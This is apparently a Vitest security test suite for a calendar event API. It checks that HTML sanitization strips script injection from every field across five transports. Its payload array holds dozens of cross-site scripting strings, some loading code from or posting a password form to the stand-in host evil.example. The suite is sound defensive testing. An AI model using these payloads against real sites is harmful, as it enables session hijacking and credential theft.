import { describe, expect, it } from 'vitest'
import { createCalendarClient } from '../../../client/index.ts'
import { findUnsafeMarkup } from '../../support/unsafe-markup.ts'
import { uniqueName, useService } from '../../support/use-service.ts'

const { service, rest } = useService()

/** Texts that make browsers run a script, load a file or cover the page. */
const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="https://a.example/x.png" onerror\t=\nalert(1)>',
  '<img src="https://a.example/x.png" alt="`onerror=alert(1)`">',
  '<img src=x onerror=alert(1) ',
  '"><img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<p onclick=alert(1)>x</p>',
  '<p \0onclick=alert(1)>x</p>',
  '<p o\0nclick=alert(1)>x</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="https://a.example/"onmouseover=alert(1)>x</a>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)" target=_blank>x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href=" \t\r\n javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0;text-align:left">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<style>@import "//evil.example/x.css"</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example/"><input name=password><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
  '<textarea><a title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '</p/><img src=x onerror=alert(1)//',
  '<a name=getElementById id=location>x</a>',
  '<p title="<img src=x onerror=alert(1)>">x</p>',
  '<b><i title="</i><img src=x onerror=alert(1)>">x</b>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '＜script＞alert(1)＜/script＞',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
]

/** Fields with sanitized HTML, and fields without HTML. */
const htmlFields = ['description', 'excerpt']
const textFields = [
  ...['title', 'venue', 'organizer', 'name', 'slug', 'cost', 'address', 'city', 'country', 'province', 'state'],
  ...['stateprovince', 'zip', 'phone', 'email'],
]

const requiredFields = { start_date: '2026-12-05 18:00:00', end_date: '2026-12-05 20:00:00' }

/** A venue and an organizer with the attack in every text. */
const buildLinkedRecords = (attack: string) => {
  const texts = { description: attack, excerpt: attack, phone: attack.slice(0, 90) }
  const place = {
    ...texts,
    address: attack,
    city: attack,
    country: attack,
    province: attack,
    state: attack,
    zip: attack.slice(0, 40),
  }
  return {
    venue: { venue: `${uniqueName('Hall')} ${attack}`, stateprovince: attack, ...place },
    organizer: { organizer: `${uniqueName('Club')} ${attack}`, email: attack, ...texts },
  }
}

const toPairs = (fields: Record<string, unknown>): [string, string][] =>
  Object.entries(fields).flatMap(([name, value]) =>
    typeof value === 'object' && value !== null
      ? Object.entries(value).map(([inner, text]): [string, string] => [`${name}[${inner}]`, String(text)])
      : [[name, String(value)] as [string, string]],
  )

const toFormData = (fields: Record<string, unknown>): FormData => {
  const form = new FormData()
  for (const [name, value] of toPairs(fields)) form.append(name, value)
  return form
}

/** Creates an event over one of the transports and body types. */
async function createEvent(encoding: string, fields: Record<string, unknown>): Promise<any> {
  const form = new URLSearchParams(toPairs(fields))
  const senders: Record<string, () => Promise<{ status: number; body: any }>> = {
    JSON: () => rest.post('/events', fields),
    'a form': () => rest.post('/events', form),
    'a form in parts': () => rest.post('/events', toFormData(fields)),
    'the query': () => rest.post(`/events?${form.toString()}`),
  }
  if (encoding === 'RPC') return createCalendarClient(service.url).events.create.mutate(fields as never)
  const { status, body } = (await senders[encoding]?.()) ?? {}
  expect({ status, body }).toMatchObject({ status: 201 })
  return body
}

/** The texts in these fields of a response, at any depth. */
function collectTexts(answer: unknown, fields: string[]): string[] {
  if (typeof answer !== 'object' || answer === null) return []
  return Object.entries(answer).flatMap(([name, value]) =>
    typeof value === 'string' && fields.includes(name) ? [value] : collectTexts(value, fields),
  )
}

const encodings = ['JSON', 'a form', 'a form in parts', 'the query', 'RPC']

describe.each(attacks)('%s', attack => {
  it.each(encodings)('sent as %s: the stored event contains no unsafe markup', async encoding => {
    const { id } = await createEvent(encoding, {
      ...{ title: `${uniqueName('Title')} ${attack}`, cost: attack, description: attack, excerpt: attack },
      ...buildLinkedRecords(attack),
      ...requiredFields,
    })
    const { body } = await rest.get(`/events/${id}`)

    expect(collectTexts(body, htmlFields).flatMap(findUnsafeMarkup)).toEqual([])
    expect(collectTexts(body, textFields).flatMap(text => [...text.matchAll(/<[a-z/!?]/gi)])).toEqual([])
    expect(collectTexts(body, textFields).length).toBeGreaterThan(8)
  })

  it('sent as a term: the stored term contains no unsafe markup', async () => {
    for (const kind of ['categories', 'tags']) {
      const created = await rest.post(`/${kind}`, {
        name: `${uniqueName('Term')} ${attack}`,
        description: `x${attack}`,
      })
      expect(created.status).toBe(201)
      const { body } = await rest.patch(`/${kind}/${created.body.id}`, { description: `${attack}x` })
      expect(collectTexts([created.body, body], htmlFields).flatMap(findUnsafeMarkup)).toEqual([])
      expect(body.name).not.toMatch(/<[a-z/!?]/i)
    }
  })
})

describe('responses', () => {
  it('are JSON with nosniff', async () => {
    const created = await rest.post('/tags', { name: uniqueName('Tag'), description: '<p>x</p>' })
    for (const { headers } of [created, await rest.get('/tags?search=%3Cscript%3E'), await rest.get('/%3Cscript%3E')])
      expect(headers).toMatchObject({
        'content-type': 'application/json; charset=utf-8',
        'x-content-type-options': 'nosniff',
      })
  })
})
